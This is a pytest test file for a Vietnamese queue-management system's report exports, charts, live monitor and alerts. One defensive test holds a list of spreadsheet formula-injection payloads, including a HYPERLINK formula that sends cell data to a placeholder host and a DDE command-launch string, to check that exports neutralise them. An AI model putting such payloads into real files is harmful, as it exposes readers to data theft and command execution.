"""Exports (CSV, XLSX in the official table's shape), charts, the live monitor and alerts."""
from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET

import pytest
import redis as redis_lib
from openpyxl import load_workbook

from server.engine.views import monitor_view
from server.history.archiver import Archiver
from server.realtime.monitor import AlertWatcher

from ..hall import ADMIN_PASSWORD, KIOSK_TOKEN
from .test_reports import Day, config  # noqa: F401 - the same hall fixture


@pytest.fixture
def small_day(api, clock, app, redis_url, config):  # noqa: F811 - the config fixture imported above
    day = Day(api, clock, seed=3)
    day.run(tickets=150)
    services = app.extensions["qms"]
    archiver = Archiver(redis_lib.Redis.from_url(redis_url), config, services.engine.keys, services.archive_sql,
                        consumer="test")
    while archiver.step(block_ms=10):
        pass
    admin = api.post("/login", {"username": "admin", "password": ADMIN_PASSWORD}).get_json()["token"]
    return day, api, admin


def test_report_api_and_exports_carry_the_same_numbers(small_day):
    _, api, admin = small_day
    query = "?period=day&date=2026-11-23&group=field"
    assert api.get("/reports" + query, KIOSK_TOKEN).status_code == 403
    report = api.get("/reports" + query, admin).get_json()
    assert report["total"]["issued"] == 150
    rows = {r["name"]: r for r in report["rows"]}

    r = api.get("/reports.csv" + query, admin)
    assert r.status_code == 200 and r.headers["Content-Disposition"].endswith('.csv"')
    text = r.get_data().decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[1][:3] == ["Lĩnh vực", "Số vé cấp", "Đã phục vụ"]
    by_name = {line[0]: line for line in lines[2:]}
    for name, row in rows.items():
        assert int(by_name[name][1]) == row["issued"] and int(by_name[name][2]) == row["served"]
    assert int(by_name["Tổng cộng"][1]) == 150

    r = api.get("/reports.xlsx" + query, admin)
    book = load_workbook(io.BytesIO(r.get_data()))
    figures, evaluation, arrivals = book.worksheets
    assert figures.title == "Số liệu" and figures["A4"].value == "Lĩnh vực"
    sheet_rows = {row[0].value: row for row in figures.iter_rows(min_row=5)}
    for name, row in rows.items():
        assert sheet_rows[name][1].value == row["issued"] and sheet_rows[name][2].value == row["served"]
    headings = [c.value for c in evaluation[4]]
    assert headings[:4] == ["STT", "Lĩnh vực", "Tổng số lượt đánh giá", "Rất hài lòng"]
    assert headings[5] == "Hài lòng" and headings[7] == "Không hài lòng"
    total = [c.value for c in list(evaluation.iter_rows(min_row=5))[-1]]
    ratings = report["total"]["ratings"]
    assert total[2] == ratings["total"] and total[3] == ratings["very_satisfied"]
    # Shares as spreadsheet percentages (0.253 shown as 25.3%), not the bare number 25.3.
    cells = list(evaluation.iter_rows(min_row=5))[-1]
    assert total[4] == pytest.approx(ratings["very_satisfied"] / ratings["total"]) and cells[4].number_format == "0.0%"
    assert total[9] == pytest.approx(ratings["satisfaction_rate"]) and cells[9].number_format == "0.0%"
    assert sum(row[1].value for row in arrivals.iter_rows(min_row=2)) == 150

    for name in ("arrivals", "waiting", "satisfaction"):
        r = api.get(f"/reports/charts/{name}.svg" + query, admin)
        assert r.status_code == 200 and r.mimetype == "image/svg+xml"
        svg = ET.fromstring(r.get_data())
        bars = svg.findall(".//{http://www.w3.org/2000/svg}rect")
        assert bars, name
    assert api.get("/reports?period=fortnight", admin).get_json()["error"]["code"] == "bad_period"
    assert api.get("/reports?group=colour", admin).get_json()["error"]["code"] == "bad_group"
    assert api.get("/reports?period=custom&from=2026-11-30&to=2026-11-01", admin).status_code == 400


def test_admin_report_page_renders(small_day, client):
    _day, api, _admin = small_day
    page = api.client.get("/admin/hcc?period=day&date=2026-11-23")
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Tỷ lệ hài lòng" in html and "<svg" in html
    assert "Đăng nhập quản trị" in client.application.test_client().get("/admin/hcc").get_data(as_text=True)


def test_monitor_and_alerts_once_across_servers(api, engine, clock, app, redis_client):
    api.login(1)
    api.issue("TP")
    api.issue("TP")
    clock.advance(minutes=10)
    sent = []
    watchers = [AlertWatcher(engine, redis_client, engine.keys, lambda e, d, r: sent.append((e, d, r)), lambda s: None)
                for _ in range(2)]
    assert [w.check() for w in watchers] == [[], []]
    view = monitor_view(engine.snapshot("hcc"))
    tp = next(f for f in view["fields"] if f["field"] == "TP")
    assert tp["waiting"] == 2 and tp["longest_wait_seconds"] == 600 and not tp["over_target"]
    clock.advance(minutes=6)  # past the 15-minute target
    for w in watchers:
        w.check()
    assert len(sent) == 1
    event, alert, room = sent[0]
    assert (event, room) == ("alert", "monitor:hcc")
    assert alert["field"] == "TP" and alert["longest_wait_seconds"] == 960 and alert["oldest_label"] == "1001"
    admin = api.post("/login", {"username": "admin", "password": ADMIN_PASSWORD}).get_json()["token"]
    monitor = api.get("/monitor", admin).get_json()
    assert monitor["alerts"] == ["TP"]
    api.act(1, "pause", {"reason": "Họp"})
    clock.advance(minutes=5)
    counter = next(c for c in api.get("/monitor", admin).get_json()["counters"] if c["number"] == 1)
    assert counter["status"] == "paused" and counter["pause_reason"] == "Họp" and counter["paused_seconds"] == 300


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_exports_cannot_carry_formulas(small_day):
    """A name that starts with = + - @ (a field or an officer named by an admin, later by
    live administration) is written as text: a spreadsheet never runs it."""
    from server.history.report_export import to_csv, to_xlsx

    _, api, admin = small_day
    report = api.get("/reports?period=day&date=2026-11-23&group=field", admin).get_json()
    names = HOSTILE[:len(report["rows"])]
    assert len(names) >= 3
    for row, name in zip(report["rows"], names, strict=True):
        row["name"] = name
    report["site"]["name"] = "=1+1"
    lines = list(csv.reader(io.StringIO(to_csv(report, "vi").decode("utf-8-sig"))))
    assert lines[0][0] == "'=1+1"
    assert [line[0] for line in lines[2:2 + len(names)]] == ["'" + n for n in names]
    assert int(lines[2][1]) == report["rows"][0]["issued"]  # numbers stay numbers
    book = load_workbook(io.BytesIO(to_xlsx(report, "vi")))
    for sheet in book.worksheets[:2]:
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        assert not [c.coordinate for c in cells if c.data_type == "f"], sheet.title
        texts = {c.value for c in cells}
        assert "=1+1" in texts and set(names) <= texts


def test_officer_rows_do_not_claim_zero_tickets_issued_and_english_reads_english(small_day):
    """Before: grouped by officer, 'Số vé cấp' was 0 on every row (kiosks issue tickets) while
    the total said 150; and English reports kept the Vietnamese field names."""
    _day, api, admin = small_day
    report = api.get("/reports?period=day&date=2026-11-23&group=officer", admin).get_json()
    assert report["total"]["issued"] == 150
    assert report["rows"] and all(r["issued"] is None for r in report["rows"])
    assert sum(r["served"] for r in report["rows"]) == report["total"]["served"]
    english = api.get("/reports?period=day&date=2026-11-23&group=field&lang=en", admin).get_json()
    assert {r["name"] for r in english["rows"]} <= {"Justice", "Land", "Construction", "Đăng ký kinh doanh"}
    assert "Justice" in {r["name"] for r in english["rows"]}
    page = api.client.get("/admin/hcc?period=day&date=2026-11-23&group=officer&lang=vi").get_data(as_text=True)
    assert not re.search(r">\s*None\s*<", page), re.findall(r".{80}None.{20}", page)
    assert "Vé do ki-ốt cấp" in page


def test_the_alert_watcher_rides_out_a_store_outage_with_one_line(config, caplog):  # noqa: F811 - the config fixture imported above
    """Before: each check during a Redis outage logged a traceback (seen in a drill's log)."""
    import threading

    from server.engine.queue_engine import QueueEngine
    from server.store.clients import queue_client
    from server.store.embedded_redis import free_port

    dead = queue_client(f"redis://127.0.0.1:{free_port()}/0")  # nothing listens there
    engine = QueueEngine(dead, config)
    checks = threading.Semaphore(0)
    watcher = AlertWatcher(engine, dead, engine.keys, lambda *a: None, lambda s: checks.release())
    caplog.set_level("INFO")
    thread = threading.Thread(target=watcher.run, daemon=True)
    thread.start()
    for _ in range(5):
        assert checks.acquire(timeout=10)
    watcher.stop()
    checks.release()
    thread.join(timeout=10)
    lines = [r for r in caplog.records if r.name == "server.realtime.monitor"]
    assert len(lines) == 1 and lines[0].levelname == "WARNING" and "store is unavailable" in lines[0].getMessage()
    assert not any(r.exc_info for r in caplog.records)
